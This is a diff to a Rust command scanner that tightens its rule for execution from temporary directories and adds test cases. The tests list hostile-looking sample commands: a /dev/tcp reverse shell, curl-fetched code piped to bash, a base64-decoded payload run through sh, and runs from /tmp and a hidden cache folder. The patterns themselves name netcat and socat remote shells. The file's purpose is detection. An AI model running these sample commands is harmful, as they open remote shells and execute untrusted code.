@@ -171,7 +171,11 @@ const SIGNS: &[(&str, &str)] = &[
         r"(?i)\b(python[0-9.]*|perl|ruby|node|bun|deno)\s+(-\w+\s+)*(-c|-e|--eval|eval)\b",
         "runs an interpreter one-liner",
     ),
-    (r"(^|[\s'\x22=(;|&!])(/tmp/|/var/tmp/|/dev/shm/)", "runs something in a temporary directory"),
+    // Where a command stands, not an argument: writing to a temporary file is ordinary.
+    (
+        r"(^|[;|&(!'\x22`]|\b(ba|z|da|k|fi)?sh\s+(-\S+\s+)*|\b(source|exec|nohup|setsid|sudo|env|python[0-9.]*|perl|ruby|node|bun)\s+(-\S+\s+)*|(^|[\s!])\.\s+)\s*(/tmp/|/var/tmp/|/dev/shm/)",
+        "runs something in a temporary directory",
+    ),
     (r"(^|[\s'\x22=(;|&!])(~|\$HOME|/home/[^/\s]+)/(\.cache|\.local/share)/\.", "runs something hidden"),
     (r"/dev/(tcp|udp)/", "opens a network connection from the shell"),
     (r"(?i)\b(nc|ncat|netcat|socat)\b.*\s(-e|-c|exec:)", "opens a remote shell"),
@@ -207,6 +211,11 @@ mod tests {
             "bash -c \"$(curl -fsSL https://x.example)\"",
             "python3 -c 'import os'",
             "/tmp/x/helper",
+            "!sh /tmp/x",
+            "! /dev/shm/x",
+            "true && /var/tmp/x",
+            "!. /tmp/x",
+            "python3 /tmp/x.py",
             "!f() { echo aGk= | base64 -d | sh; }; f",
             "!bash -i >& /dev/tcp/10.0.0.1/99",
             "~/.cache/.sys-update/run",
@@ -225,6 +234,8 @@ mod tests {
             "gpg2",
             "cut -d: -f1",
             "ssh -i ~/.ssh/work",
+            "!git diff > /tmp/x.patch",
+            "!git archive --output=/tmp/x.tar HEAD",
         ] {
             assert!(suspicious_command(good).is_none(), "{good}");
         }
